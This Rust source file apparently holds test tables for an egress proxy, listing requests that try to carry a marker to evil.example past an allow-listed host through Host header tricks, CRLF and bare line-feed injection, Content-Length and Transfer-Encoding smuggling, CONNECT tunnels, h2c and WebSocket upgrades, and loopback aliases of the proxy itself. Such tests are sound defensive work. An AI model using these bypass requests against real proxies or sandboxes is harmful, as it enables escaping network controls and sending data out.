//! What HTTP says, how it is framed, and the proxy as a way to itself.

use super::row::{Row, Shown, row, shown};

/// Requests that name two hosts, or another protocol.
pub const ROWS: &[Row] = &[
    row(
        "a Host that is not the URL's",
        "get('http://good.example/' + M, 'evil.example')",
    ),
    row(
        "a Host that is not listed",
        "proxy('GET /' + M + ' HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')",
    ),
    row(
        "two Hosts",
        "get('http://good.example/' + M, 'good.example', 'Host: evil.example\\r\\n')",
    ),
    row(
        "two hosts in one Host",
        "get('http://good.example/' + M, 'good.example, evil.example')",
    ),
    row(
        "a Host that goes on in the next line",
        "get('http://good.example/' + M, 'good.example\\r\\n evil.example')",
    ),
    row(
        "a Host behind a bare line feed",
        "get('http://good.example/' + M, 'good.example', 'X: y\\nHost: evil.example\\r\\n')",
    ),
    row(
        "a header behind a bare carriage return",
        "get('http://good.example/' + M, 'good.example', 'X: y\\rHost: evil.example\\r\\n')",
    ),
    row(
        "a line end in the URL",
        "proxy('GET http://good.example/\\r\\nHost: evil.example/' + M + ' HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n')",
    ),
    row(
        "a Host with a space before the colon",
        "proxy('GET http://good.example/' + M + ' HTTP/1.1\\r\\nHost : evil.example\\r\\nHost: good.example\\r\\n\\r\\n')",
    ),
    row(
        "another Host in a tunnel to 80",
        "tunnel('good.example:80', 'GET /' + M + ' HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')",
    ),
    row(
        "another Host in the second request there",
        "tunnel('good.example:80', 'GET / HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n', 'GET /' + M + ' HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')",
    ),
    row(
        "the same in one segment",
        "tunnel('good.example:80', 'GET / HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\nGET /' + M + ' HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')",
    ),
    row(
        "another URL in a tunnel to 80",
        "tunnel('good.example:80', 'GET http://evil.example/' + M + ' HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')",
    ),
    row(
        "a tunnel in a tunnel to 80",
        "tunnel('good.example:80', 'CONNECT evil.example:443 HTTP/1.1\\r\\nHost: ' + M + '\\r\\n\\r\\n')",
    ),
    row(
        "no Host in a tunnel to 80",
        "tunnel('good.example:80', 'GET /' + M + ' HTTP/1.0\\r\\n\\r\\n')",
    ),
    row(
        "another protocol in a tunnel to 80",
        "tunnel('good.example:80', 'SSH-2.0-' + M + '\\r\\n')",
    ),
    row(
        "an upgrade to h2c",
        "get('http://good.example/' + M, 'good.example', 'Connection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\\r\\n')",
    ),
    row(
        "h2c without asking",
        "tunnel('good.example:80', 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + M)",
    ),
    row(
        "HTTP/0.9",
        "proxy('GET http://evil.example/' + M + '\\r\\n\\r\\n')",
    ),
    row(
        "a second request to another host in one segment",
        "proxy('GET http://good.example/ HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\nGET http://evil.example/' + M + ' HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')",
    ),
    row(
        "a second request to another host on a kept connection",
        "pauses('GET http://good.example/ HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n', 'GET http://evil.example/' + M + ' HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')",
    ),
    row(
        "a CONNECT behind an allowed request",
        "pauses('GET http://good.example/ HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n', 'CONNECT evil.example:80 HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n', M)",
    ),
    row(
        "bytes behind an upgrade to WebSocket",
        "get('http://good.example/', 'good.example', 'Connection: Upgrade\\r\\nUpgrade: websocket\\r\\n', '\\x81\\x05' + M)",
    ),
    row(
        "an https URL without a tunnel",
        "get('https://evil.example/' + M)",
    ),
    row("an ftp URL", "get('ftp://evil.example/' + M)"),
];

/// Requests whose end is where the reader wants it.
pub const FRAMING: &[Row] = &[
    shown(
        Shown::Text("content-length: N"),
        "two lengths: chunked and a number",
        "get('http://good.example/', 'good.example', f'Content-Length: {N}\\r\\nTransfer-Encoding: chunked\\r\\n', '0\\r\\n\\r\\nGET /' + M + ' HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n')",
    ),
    shown(
        Shown::Text("content-length: N\r\n"),
        "two numbers",
        "get('http://good.example/', 'good.example', f'Content-Length: {N}\\r\\nContent-Length: 5\\r\\n', 'abcde')",
    ),
    shown(
        Shown::Text("content-length: N, 5"),
        "two numbers in one header",
        "get('http://good.example/', 'good.example', f'Content-Length: {N}, 5\\r\\n', 'abcde')",
    ),
    shown(
        Shown::Text("content-length: +N"),
        "a number with a sign",
        "get('http://good.example/', 'good.example', f'Content-Length: +{N}\\r\\n', 'abcde')",
    ),
    shown(
        Shown::Text("transfer-encoding : chunked\r\nx: N"),
        "a space before the colon",
        "get('http://good.example/', 'good.example', f'Transfer-Encoding : chunked\\r\\nX: {N}\\r\\n', '0\\r\\n\\r\\n')",
    ),
    shown(
        Shown::Text("transfer-encoding: xchunked\r\nx: N"),
        "a coding that looks like chunked",
        "get('http://good.example/', 'good.example', f'Transfer-Encoding: xchunked\\r\\nX: {N}\\r\\n', '0\\r\\n\\r\\n')",
    ),
    shown(
        Shown::Text("transfer-encoding: chunked, identity\r\nx: N"),
        "a coding behind chunked",
        "get('http://good.example/', 'good.example', f'Transfer-Encoding: chunked, identity\\r\\nX: {N}\\r\\n', '0\\r\\n\\r\\n')",
    ),
    shown(
        Shown::Text("transfer-encoding:\u{b}chunked\r\nx: N"),
        "a control character before chunked",
        "get('http://good.example/', 'good.example', f'Transfer-Encoding:\\x0bchunked\\r\\nX: {N}\\r\\n', '0\\r\\n\\r\\n')",
    ),
    shown(
        Shown::Text("5;N\nabcde"),
        "a chunk's length that ends in a bare line feed",
        "get('http://good.example/', 'good.example', 'Transfer-Encoding: chunked\\r\\n', f'5;{N}\\nabcde\\r\\n0\\r\\n\\r\\n')",
    ),
    shown(
        Shown::Text("0N\r\nabc"),
        "a chunk's length with many zeros",
        "get('http://good.example/', 'good.example', 'Transfer-Encoding: chunked\\r\\n', f'{\"0\" * 30}{N}\\r\\nabcde\\r\\n0\\r\\n\\r\\n')",
    ),
    shown(
        Shown::Text("trailer: host\r\nx: N"),
        "trailers that name a header",
        "get('http://good.example/', 'good.example', f'Transfer-Encoding: chunked\\r\\nTrailer: Host\\r\\nX: {N}\\r\\n', '0\\r\\nHost: evil.example\\r\\n\\r\\n')",
    ),
    shown(
        Shown::Text("x-hop: M"),
        "a header that Connection names",
        "get('http://good.example/', 'good.example', f'Connection: x-hop\\r\\nX-Hop: {M}\\r\\n')",
    ),
    shown(
        Shown::Text("proxy-authorization: M"),
        "a credential meant for the proxy",
        "get('http://good.example/', 'good.example', f'Proxy-Authorization: {M}\\r\\n')",
    ),
    row(
        "a CONNECT with a body",
        "proxy('CONNECT good.example:80 HTTP/1.1\\r\\nHost: good.example\\r\\nContent-Length: 5\\r\\n\\r\\n' + M)",
    ),
];

/// The proxy, by the proxy.
pub const PROXIES: &[Row] = &[
    row(
        "the proxy by its name",
        "tunnel('egress:8888', 'GET http://evil.example/' + M + ' HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')",
    ),
    row(
        "the proxy as localhost",
        "tunnel('localhost:8888', 'GET http://evil.example/' + M + ' HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')",
    ),
    row(
        "the proxy at 127.0.0.1",
        "tunnel('127.0.0.1:8888', 'GET http://evil.example/' + M + ' HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')",
    ),
    row(
        "the proxy at 127.0.0.2",
        "tunnel('127.0.0.2:8888', 'GET http://evil.example/' + M + ' HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')",
    ),
    row(
        "the proxy at 0.0.0.0",
        "tunnel('0.0.0.0:8888', 'GET http://evil.example/' + M + ' HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')",
    ),
    row(
        "the proxy at ::1",
        "tunnel('[::1]:8888', 'GET http://evil.example/' + M + ' HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')",
    ),
    row(
        "the proxy at ::",
        "tunnel('[::]:8888', 'GET http://evil.example/' + M + ' HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')",
    ),
    row(
        "the proxy at a mapped loopback",
        "tunnel('[::ffff:127.0.0.1]:8888', 'GET http://evil.example/' + M + ' HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')",
    ),
    row(
        "the proxy at a decimal loopback",
        "tunnel('2130706433:8888', 'GET http://evil.example/' + M + ' HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')",
    ),
];
